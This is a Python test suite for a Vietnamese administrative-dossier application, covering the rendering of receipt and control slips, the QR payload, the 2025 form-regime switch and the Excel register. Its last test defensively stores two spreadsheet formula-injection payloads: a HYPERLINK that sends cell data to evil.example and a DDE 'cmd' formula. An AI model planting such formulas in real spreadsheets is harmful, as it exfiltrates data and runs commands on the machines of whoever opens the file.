"""Printed slips (Mẫu 01–07) and the register: PDF on A5/A4, DOCX, QR code, regime switch.

Set CCHC_SLIPS_OUT=/some/dir to keep the rendered files for a visual check.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError

from cchc.dossiers import register, services, slips
from cchc.dossiers.models import Channel
from cchc.org.models import Staff
from cchc.procedures.models import RequiredDocument
from tests.dossiers.conftest import local, person

OUT = os.environ.get("CCHC_SLIPS_OUT")
A5 = (419.5, 595.3)
A4_LANDSCAPE = (841.9, 595.3)
ISSUED = local(2026, 3, 20, 8, 15)


def _keep(name: str, data: bytes) -> None:
    if OUT:
        Path(OUT).mkdir(parents=True, exist_ok=True)
        Path(OUT, name).write_bytes(data)


def _inflated(pdf: bytes) -> bytes:
    """The PDF with its compressed streams (WeasyPrint puts page objects in object streams) inflated."""
    parts = [pdf]
    for raw in re.findall(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        try:
            parts.append(zlib.decompress(raw))
        except zlib.error:
            continue
    return b"\n".join(parts)


def page_sizes(pdf: bytes) -> list[tuple[float, float]]:
    pattern = rb"/MediaBox\s*\[\s*([\d.]+)\s+([\d.]+)\s+([\d.]+)\s+([\d.]+)\s*\]"
    boxes = re.findall(pattern, _inflated(pdf))
    assert boxes, "no MediaBox in the PDF"
    return [(round(float(x1) - float(x0), 1), round(float(y1) - float(y0), 1)) for x0, y0, x1, y1 in boxes]


def pdf_text(pdf: bytes) -> str | None:
    if not shutil.which("pdftotext"):
        return None
    done = subprocess.run(["pdftotext", "-layout", "-", "-"], input=pdf, capture_output=True, check=True)
    return done.stdout.decode()


def docx_text(data: bytes) -> str:
    from docx import Document

    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def _receive(world, at, **kw):
    dossier, _secret = services.receive_at_counter(
        actor=world.staff["counter"],
        procedure_version=world.version,
        applicant=person(**kw),
        paper_reason="Người nộp không có tài khoản VNeID",
        return_channel=Channel.POST,
        at=at,
    )
    return dossier


@pytest.fixture
def dossiers(world):
    """One dossier per slip kind, all received in the 2025 regime (March 2026)."""
    s = world.staff
    for order, (name, kind) in enumerate(
        [
            ("Đề nghị hưởng trợ cấp thất nghiệp", RequiredDocument.Kind.ORIGINAL),
            ("Quyết định chấm dứt hợp đồng lao động", RequiredDocument.Kind.CERTIFIED),
            ("Sổ bảo hiểm xã hội", RequiredDocument.Kind.ORIGINAL_OR_COPY),
        ],
        start=1,
    ):
        RequiredDocument.objects.create(version=world.version, order=order, name=name, kind=kind)
    Staff.objects.filter(user=s["specialist"]).update(
        is_public_contact=True, position="Chuyên viên Phòng Việc làm", phone="0252 3822 456"
    )
    Staff.objects.filter(user=s["counter"]).update(full_name="Trần Thị Bình")
    Staff.objects.filter(user=s["specialist"]).update(full_name="Lê Thị Hoa")

    full = _receive(world, local(2026, 3, 2, 9, 5), name="Nguyễn Thị Ánh Tuyết")
    full = services.hand_over(
        actor=s["counter"], dossier=full, revision=full.revision, at=local(2026, 3, 2, 10)
    )
    full = services.hand_over(
        actor=s["specialist"], dossier=full, revision=full.revision, at=local(2026, 3, 4, 9)
    )
    full = services.apologise(
        actor=s["head"],
        dossier=full,
        revision=full.revision,
        reason="Chờ Bảo hiểm xã hội tỉnh xác nhận quá trình đóng bảo hiểm thất nghiệp",
        new_due_at=full.due_at + dt.timedelta(days=5),
        at=local(2026, 3, 12, 9),
    )

    online, _ = services.submit_online(
        procedure_version=world.version, applicant=person(name="Lê Văn Đức"), at=local(2026, 3, 3, 8)
    )
    supplement = services.request_intake_supplement(
        actor=s["counter"],
        dossier=online,
        revision=online.revision,
        items="Bản sao chứng thực quyết định chấm dứt hợp đồng lao động\nSổ bảo hiểm xã hội bản chính",
        at=local(2026, 3, 3, 14, 20),
    )
    refused_online, _ = services.submit_online(
        procedure_version=world.version, applicant=person(name="Phạm Thị Hồng"), at=local(2026, 3, 4, 8)
    )
    refused = services.refuse(
        actor=s["counter"],
        dossier=refused_online,
        revision=refused_online.revision,
        reason="Người nộp đang hưởng lương hưu hằng tháng, không thuộc đối tượng hưởng trợ cấp thất nghiệp.",
        at=local(2026, 3, 4, 9, 30),
    )
    stopped = _receive(world, local(2026, 3, 5, 8, 0), name="Võ Quốc Bảo")
    stopped = services.stop(
        actor=s["counter"],
        dossier=stopped,
        revision=stopped.revision,
        reason="Người nộp đã có việc làm mới, đề nghị rút hồ sơ.",
        at=local(2026, 3, 6, 15, 45),
    )
    return {
        "receipt": full,
        "control": full,
        "apology": full,
        "supplement": supplement,
        "refusal": refused,
        "stop": stopped,
    }


@pytest.mark.parametrize("kind", slips.SLIP_KINDS)
def test_every_slip_renders_a5_pdf_and_docx(dossiers, kind):
    dossier = dossiers[kind]
    pdf = slips.render_pdf(dossier, kind, issued_at=ISSUED)
    _keep(f"{kind}.pdf", pdf)
    assert pdf.startswith(b"%PDF")
    sizes = page_sizes(pdf)
    assert all(size == A5 for size in sizes), sizes
    text = pdf_text(pdf)
    form = slips.slip_form(dossier, kind)
    if text is not None:
        flat = " ".join(text.split())
        assert dossier.code in flat
        assert form.title in flat
        assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in flat
    data = slips.render_docx(dossier, kind, issued_at=ISSUED)
    _keep(f"{kind}.docx", data)
    words = docx_text(data)
    assert dossier.code in words
    assert form.title in words
    assert "{{" not in words and "{%" not in words


def test_receipt_content(dossiers):
    dossier = dossiers["receipt"]
    ctx = slips.slip_context(dossier, slips.RECEIPT, issued_at=ISSUED)
    assert ctx["documents"][0]["name"] == "Đề nghị hưởng trợ cấp thất nghiệp"
    assert ctx["legal_time"] == "10 ngày làm việc"
    assert ctx["received_time"] == "09 giờ 05 phút, ngày 02/03/2026"
    assert ctx["due_time"].endswith(f"ngày {dossier.due_at.astimezone(local(2026, 1, 1).tzinfo):%d/%m/%Y}")
    assert ctx["return_channel"] == "Dịch vụ bưu chính công ích"
    # P-B5: the public contact of the processing unit.
    assert ctx["contact"]["position"] == "Chuyên viên Phòng Việc làm"
    assert ctx["contact"]["phone"] == "0252 3822 456"
    assert ctx["receiver_name"] == "Trần Thị Bình"
    words = docx_text(slips.render_docx(dossier, slips.RECEIPT, issued_at=ISSUED))
    assert "Vào Sổ theo dõi hồ sơ" in words and "0252 3822 456" in words


def test_qr_payload(dossiers):
    dossier = dossiers["receipt"]
    payload = slips.qr_payload(dossier, slips.RECEIPT, issued_at=ISSUED)
    due = dossier.due_at.astimezone(ISSUED.tzinfo).isoformat(timespec="minutes")
    assert f"MaHoSo: {dossier.code}" in payload
    assert "MaTTHC: 1.001978" in payload
    assert "MaDinhDanh: 060090001234" in payload
    assert "TenGiayTo: Mẫu số 01 – Giấy tiếp nhận hồ sơ và hẹn trả kết quả" in payload
    assert "HeThong: " in payload
    assert "ThoiGianCap: 2026-03-20T08:15+07:00" in payload
    assert f"HenTra: {due}" in payload
    assert "HenTra" not in slips.qr_payload(dossier, slips.CONTROL, issued_at=ISSUED)


def test_control_slip_lists_handovers(dossiers):
    ctx = slips.slip_context(dossiers["control"], slips.CONTROL, issued_at=ISSUED)
    rows = ctx["rows"]
    assert [r["taker"] for r in rows] == ["Bộ phận Một cửa", "Phòng Việc làm", "Phòng Việc làm"]
    assert rows[0]["giver"] == "Bộ phận Một cửa"
    assert rows[0]["result"] in {"Trước hạn", "Đúng hạn", "Quá hạn"}
    assert ctx["partners"] == "Bảo hiểm xã hội tỉnh"


def test_supplement_and_refusal_take_the_event_note(dossiers):
    ctx = slips.slip_context(dossiers["supplement"], slips.SUPPLEMENT, issued_at=ISSUED)
    assert ctx["items"] == [
        "Bản sao chứng thực quyết định chấm dứt hợp đồng lao động",
        "Sổ bảo hiểm xã hội bản chính",
    ]
    ctx = slips.slip_context(dossiers["refusal"], slips.REFUSAL, issued_at=ISSUED)
    assert "lương hưu" in ctx["items"][0]


def test_regime_switch_on_1_july_2025(world):
    old = _receive(world, local(2025, 6, 30, 16, 0))
    new = _receive(world, local(2025, 7, 1, 8, 0))
    assert slips.regime_for(old).key == "2018" and slips.regime_for(new).key == "2025"
    assert slips.slip_form(old, slips.CONTROL).number == "05"
    assert slips.slip_form(new, slips.CONTROL).number == "06"
    assert slips.form_for(slips.REGISTER, dt.date(2025, 6, 30)).number == "06"
    assert slips.form_for(slips.REGISTER, dt.date(2025, 7, 1)).number == "07"
    assert (
        slips.form_for(slips.APOLOGY, dt.date(2025, 6, 30)).title
        == "PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ"
    )
    assert slips.form_for(slips.APOLOGY, dt.date(2025, 7, 1)).title == (
        "VĂN BẢN XIN LỖI VÀ ĐỀ NGHỊ GIA HẠN THỜI GIAN GIẢI QUYẾT"
    )
    old_pdf = slips.render_pdf(old, slips.CONTROL, issued_at=ISSUED)
    _keep("control-2018.pdf", old_pdf)
    old_text = pdf_text(old_pdf)
    if old_text is not None:
        assert "Mẫu số 05 – TT 01/2018/TT-VPCP" in " ".join(old_text.split())
    words = docx_text(slips.render_docx(new, slips.CONTROL, issued_at=ISSUED))
    assert "Mẫu số 06 – TT 03/2025/TT-VPCP" in words
    # The stop notice exists only in the 2025 form set.
    with pytest.raises(ValidationError, match="TT 01/2018/TT-VPCP"):
        slips.slip_form(old, slips.STOP)


def test_slip_that_does_not_apply_is_refused(world, dossiers):
    plain = dossiers["stop"]
    with pytest.raises(ValidationError, match="không có văn bản xin lỗi") as exc:
        slips.render_pdf(plain, slips.APOLOGY)
    assert plain.code in exc.value.messages[0]
    with pytest.raises(ValidationError, match="không có yêu cầu bổ sung"):
        slips.render_docx(dossiers["receipt"], slips.SUPPLEMENT)
    with pytest.raises(ValidationError, match="chưa được tiếp nhận"):
        slips.render_pdf(dossiers["supplement"], slips.RECEIPT)
    with pytest.raises(ValidationError, match="không dừng giải quyết"):
        slips.render_pdf(dossiers["receipt"], slips.STOP)
    with pytest.raises(ValidationError):
        slips.render_pdf(plain, "unknown")


def test_register_pdf_and_excel(world, dossiers, django_assert_max_num_queries):
    from openpyxl import load_workbook

    start, end = dt.date(2026, 3, 1), dt.date(2026, 3, 31)
    with django_assert_max_num_queries(1):
        rows = register.register_rows(world.agency, start, end)
    # Received in March: the full dossier and the stopped one (the others were never received).
    assert [r[1] for r in rows] == [dossiers["receipt"].code, dossiers["stop"].code]
    assert rows[0][5] == world.agency.name
    pdf = register.render_register_pdf(world.agency, start, end, issued_at=ISSUED)
    _keep("register.pdf", pdf)
    assert pdf.startswith(b"%PDF")
    assert set(page_sizes(pdf)) == {A4_LANDSCAPE}
    text = pdf_text(pdf)
    if text is not None:
        flat = " ".join(text.split())
        assert "SỔ THEO DÕI HỒ SƠ" in flat and "Mẫu số 07" in flat and dossiers["receipt"].code in flat
    data = register.render_register_xlsx(world.agency, start, end)
    _keep("register.xlsx", data)
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[3]] == [str(c) for c in register.COLUMNS]
    body = [row for row in ws.iter_rows(min_row=4, values_only=True) if any(row)]
    assert len(body) == 2
    assert body[0][1] == dossiers["receipt"].code and body[0][0] == 1
    # An empty period still renders.
    assert register.render_register_xlsx(world.agency, dt.date(2024, 1, 1), dt.date(2024, 1, 31))
    with pytest.raises(ValidationError):
        register.register_rows(world.agency, end, start)


SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"


def test_receipt_screenshot_for_the_docs(dossiers, settings, monkeypatch):
    """docs/screenshots/receipt-slip.png: Mẫu 01 of a realistic dossier, as printed (A5, one page).

    Rewritten by every run so it shows the current layout; the survey link's token (a signature
    of the dossier's id at a time) is pinned so the picture only changes when the slip does.
    """
    from django.core import signing

    from cchc.dossiers import survey_link as links

    settings.CCHC_PUBLIC_BASE_URL = "https://dichvucong.example.gov.vn"
    monkeypatch.setattr(signing.time, "time", lambda: 1774000000)
    monkeypatch.setattr(links, "token_for", lambda _dossier: signing.dumps(1, salt=links.SALT, compress=True))
    pdf = slips.render_pdf(dossiers["receipt"], slips.RECEIPT, issued_at=ISSUED)
    info = subprocess.run(["pdfinfo", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    assert re.search(r"^Pages:\s+1$", info, re.M) and "419.528 x 595.276 pts" in info
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    target = SCREENSHOTS / "receipt-slip.png"
    subprocess.run(
        ["pdftoppm", "-png", "-r", "110", "-singlefile", "-", str(target.with_suffix(""))],
        input=pdf,
        check=True,
        capture_output=True,
    )
    assert target.stat().st_size > 20_000


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0"]


def test_register_excel_writes_an_applicants_text_as_text(world, dossiers):
    """An applicant named like a formula, with an address like one, stays text in the Excel register."""
    from openpyxl import load_workbook

    from cchc.dossiers.models import Dossier

    Dossier.objects.filter(pk=dossiers["receipt"].pk).update(applicant_name=FORMULAS[0], address=FORMULAS[1])
    data = register.render_register_xlsx(world.agency, dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(FORMULAS[0] in t for t in texts) and any(FORMULAS[1] in t for t in texts)
